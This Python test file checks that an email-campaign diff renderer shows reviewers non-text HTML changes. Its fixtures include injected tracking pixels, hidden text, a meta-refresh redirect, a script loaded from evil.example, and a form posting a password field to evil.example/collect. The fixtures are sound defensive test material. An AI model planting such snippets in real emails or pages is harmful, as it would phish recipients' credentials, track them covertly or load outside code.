"""What an HTML change shows a reviewer: every part a reader sees or triggers, not only text."""

from __future__ import annotations

import pytest

from syncer.model.plan import FieldChange, Plan
from syncer.providers.moengage.planner import plan_campaign
from syncer.render.text import render_plan
from syncer.render.values import View, change_lines
from syncer.render.visible import html_diff, html_text, read
from tests.support.builders import definition, email, item, remote

BASE = (
    "<html><head><style>p { color: #333 }</style></head><body>"
    "<h1>Welcome to Acme</h1>"
    '<p>Your account is ready. <a href="https://acme.example/start">Get started</a>.</p>'
    '<img src="https://cdn.acme.example/logo.png" alt="Acme">'
    "</body></html>"
)


def _with(fragment: str) -> str:
    return BASE.replace("</body>", fragment + "</body>")


CASES = [
    (
        "tracking pixel",
        _with('<img src="https://evil.example/pixel.gif">'),
        ["  images:", "+ https://evil.example/pixel.gif (no alt)"],
    ),
    (
        "image alt",
        BASE.replace('alt="Acme"', 'alt="Acme logo"'),
        [
            "  images:",
            '- https://cdn.acme.example/logo.png (alt "Acme")',
            '+ https://cdn.acme.example/logo.png (alt "Acme logo")',
        ],
    ),
    (
        "hidden heading",
        BASE.replace("<h1>", '<h1 style="display:none">'),
        ["- Welcome to Acme", "  hidden text:", "+ Welcome to Acme"],
    ),
    (
        "form",
        _with('<form action="https://evil.example/collect" method="post"><input name="pw"></form>'),
        [
            "  forms:",
            "+ form action='https://evil.example/collect' method='post'",
            "+ input name='pw'",
        ],
    ),
    (
        "script",
        _with('<script src="https://evil.example/x.js"></script>'),
        ["  scripts and embeds:", "+ script src=https://evil.example/x.js"],
    ),
    (
        "link",
        BASE.replace("/start", "/start?ref=mail"),
        ["  links:", "- https://acme.example/start", "+ https://acme.example/start?ref=mail"],
    ),
    (
        "restyled",
        BASE.replace("<h1>", '<h1 style="color:#fff;background:#fff">'),
        ["  styles:", "+ h1 style='color:#fff;background:#fff'"],
    ),
    (
        "background pixel",
        BASE.replace("<h1>", '<h1 style="background:url(https://t.example/bg.gif)">'),
        ["  images:", "+ https://t.example/bg.gif (in the style of h1)"],
    ),
    (
        "background attribute",
        _with('<table><tr><td background="https://t.example/td.gif">x</td></tr></table>'),
        ["+ https://t.example/td.gif (background of td)"],
    ),
    (
        "remote stylesheet",
        BASE.replace("<head>", '<head><link rel="stylesheet" href="https://t.example/s.css">'),
        ["  styles:", "+ link rel='stylesheet' href=https://t.example/s.css"],
    ),
    (
        "meta refresh",
        BASE.replace(
            "<head>", '<head><meta http-equiv="refresh" content="0;url=https://x.example">'
        ),
        ["  scripts and embeds:", "+ meta refresh '0;url=https://x.example'"],
    ),
    (
        "tiny text",
        _with('<p style="font-size:0">Hidden offer</p>'),
        ["  hidden text:", "+ Hidden offer", "  styles:", "+ p style='font-size:0'"],
    ),
]


@pytest.mark.parametrize(("case", "after", "expected"), CASES, ids=[c[0] for c in CASES])
def test_html_changes_other_than_text_are_shown_and_never_markup_only(
    case: str, after: str, expected: list[str]
) -> None:
    lines = html_diff(BASE, after)
    assert not any("markup only" in line for line in lines), lines
    for line in expected:
        assert line in lines, (case, lines)


def test_a_second_copy_of_the_same_pixel_is_a_change() -> None:
    pixel = '<img src="https://t.example/p.gif" alt="">'
    lines = html_diff(_with(pixel), _with(pixel + pixel))
    assert lines == ["  images:", '+ https://t.example/p.gif (alt "")']


def test_hidden_content_ends_with_its_element() -> None:
    found = read('<div style="display: none"><div>Pre</div>header</div><p>Shown</p>')
    assert found.hidden == ["Pre", "header"]
    assert found.text == ["Shown"]


def test_a_new_body_lists_its_images_forms_and_hidden_text() -> None:
    lines = html_text(_with('<span hidden>psst</span><img src="https://t.example/p.gif">'))
    assert "+ Welcome to Acme" in lines
    assert lines[lines.index("  hidden text:") + 1] == "+ psst"
    assert "+ https://t.example/p.gif (no alt)" in lines


def test_raw_mode_is_a_line_diff_of_the_html() -> None:
    change = FieldChange(
        path="campaign_content.content.email.html_content",
        before=BASE,
        after=_with('<img src="https://evil.example/pixel.gif">'),
    )
    head, *lines = change_lines(change, View(html_diff="raw"))
    assert head == "~ campaign_content.content.email.html_content (raw HTML)"
    assert '+<img src="https://evil.example/pixel.gif">' in lines
    assert ' <img src="https://cdn.acme.example/logo.png" alt="Acme">' in lines  # context


def test_a_replaced_change_is_not_labelled_blocked() -> None:
    change = FieldChange(path="segmentation_details", before=1, after=2, blocked="ACTIVE ...")
    assert change_lines(change)[0] == "~ segmentation_details [blocked]"
    assert change_lines(change, carried_out=True)[0] == "~ segmentation_details"


def _localized(fr2: str) -> dict[str, object]:
    def one(html: str) -> dict[str, object]:
        email = {"subject": "Sale", "sender_name": "Acme", "html_content": html}
        return {"email": {**email, "from_address": "a@acme.io", "reply_to_address": "a@acme.io"}}

    return {
        "locales": ["fr"],
        "content": {
            "default": {"variation_1": one(BASE), "variation_2": one(BASE)},
            "fr": {"variation_1": one(BASE), "variation_2": one(fr2)},
        },
    }


def test_an_html_change_is_shown_for_its_own_locale_and_variation() -> None:
    pixel = _with('<img src="https://t.example/p.gif">')
    d = definition({"campaign_content": _localized(pixel)}, id="c1")
    planned = plan_campaign(item(d, remote(email(campaign_content=_localized(BASE)))))
    path = "campaign_content.content.fr.variation_2.email.html_content"
    assert [c.path for c in planned.changes] == [path]
    text = render_plan(Plan(campaigns=(planned,))).plain
    assert (
        "~ campaign_content.content.fr.variation_2.email.html_content (what recipients see)" in text
    )
    assert "+ https://t.example/p.gif (no alt)" in text
